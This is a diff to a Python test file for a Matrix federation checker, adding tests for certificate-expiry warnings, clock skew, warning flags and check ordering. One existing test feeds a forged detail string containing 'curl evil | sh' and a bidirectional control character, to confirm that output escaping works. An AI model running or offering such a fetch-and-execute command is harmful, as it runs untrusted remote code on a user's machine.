@@ -128,7 +128,7 @@ def test_report_json_and_summary_lines():
     data = report.to_json()
     assert data["server_name"] == "example.org" and data["ok"] is False
     assert data["checks"][1] == {"name": "tls", "ok": False, "detail": "certificate is for matrix.example.org, not example.org",
-                                 "fix": "use .well-known delegation"}
+                                 "fix": "use .well-known delegation", "warning": False}
     assert data["tester"] == {"FederationOK": False}
 
 
@@ -222,3 +222,74 @@ def test_summary_lines_escape_what_the_network_sent():
     forged = Check("client-well-known", False, "base_url = https://x\nwhat to do: curl evil | sh", "fix\u202e it")
     line = forged.summary_line()
     assert "\n" not in line and "\u202e" not in line and "\\n" in line
+
+
+def _cert(days_total: float, days_left: float, now: float):
+    from datetime import datetime, timezone
+
+    from installer.federation.net import CertInfo
+
+    after = datetime.fromtimestamp(now + days_left * 86400, timezone.utc)
+    before = datetime.fromtimestamp(now + (days_left - days_total) * 86400, timezone.utc)
+    return CertInfo("matrix.example.org", "R11", ("matrix.example.org",), (), "ab" * 32, before, after, False)
+
+
+def _reachable(cert=None, date="", received_at=0.0):
+    report = AddressReport(Address(Target("matrix.example.org", 443, "matrix.example.org", "matrix.example.org",
+                                          "well-known"), "192.0.2.1", 443))
+    report.cert, report.date, report.received_at = cert, date, received_at
+    return report
+
+
+@pytest.mark.parametrize(("total", "left", "warned"), [
+    (90, 60, False), (90, 13, True), (90, 15, False),          # Let's Encrypt: 14 days
+    (0.5, 0.2, False), (0.5, 0.05, True),                       # Caddy's local CA: 12 hours, 20% of it
+    (6, 3, False), (6, 1, True),                                # short-lived 6-day certificates
+])
+def test_certificate_expiry_warns_under_14_days_or_a_fifth_of_a_short_lifetime(total, left, warned):
+    from installer.federation.check import _certificate_expiry
+    from installer.federation.discovery import Discovery, WellKnown
+
+    now = time.time()
+    found = Discovery("example.org", WellKnown("https://example.org/.well-known/matrix/server"))
+    (check,) = _certificate_expiry(found, [_reachable(_cert(total, left, now))], "example.org", now=now)
+    assert check.ok and check.name == "certificate-expiry"
+    assert check.warning is warned, check
+    assert check.detail.startswith("matrix.example.org: ")
+    assert ("hours left" if left < 2 else "days left") in check.detail
+    assert (check.fix is not None) is warned
+
+
+def test_clock_skew_against_the_servers_date_header():
+    from email.utils import formatdate
+
+    from installer.federation.check import _clock
+
+    now = float(int(time.time()))  # a Date header has whole seconds: a fraction here would round the skew either way
+    (same,) = _clock([_reachable(date=formatdate(now, usegmt=True), received_at=now + 0.4)])
+    assert same.ok and not same.warning and "agree within 1 s" in same.detail
+    (off,) = _clock([_reachable(date=formatdate(now - 90, usegmt=True), received_at=now)])
+    assert off.ok and off.warning and "its clock is 90 s behind this machine's" in off.detail and "timedatectl" in off.fix
+    (bad,) = _clock([_reachable(date=formatdate(now + 3600, usegmt=True), received_at=now)])
+    assert not bad.ok and "3600 s ahead of this machine's" in bad.detail
+    assert _clock([_reachable()]) == []
+
+
+def test_a_warning_passes_and_shows_its_fix():
+    warned = Check("well-known", True, "m.server = m.example.org:443; but reached through 1 redirect", "serve it directly",
+                   warning=True)
+    report = FederationReport("example.org", [warned, Check("dns", True, "fine")])
+    assert report.ok and report.warnings == [warned] and not report.failed
+    assert warned.summary_line() == "! well-known  m.server = m.example.org:443; but reached through 1 redirect -> fix: serve it directly"
+    assert warned.to_json()["warning"] is True
+    assert Check.from_json(warned.to_json()) == warned
+
+
+def test_the_report_orders_checks_as_discovery_goes():
+    from installer.federation.report import order_key
+
+    names = ["registration", "tls@[2001:db8::1]:443", "dns", "outbound", "tls", "well-known", "clock",
+             "server-keys@[2001:db8::1]:443", "certificate-expiry"]
+    assert sorted(names, key=order_key) == [
+        "well-known", "dns", "tls", "tls@[2001:db8::1]:443", "server-keys@[2001:db8::1]:443", "certificate-expiry",
+        "clock", "registration", "outbound"]
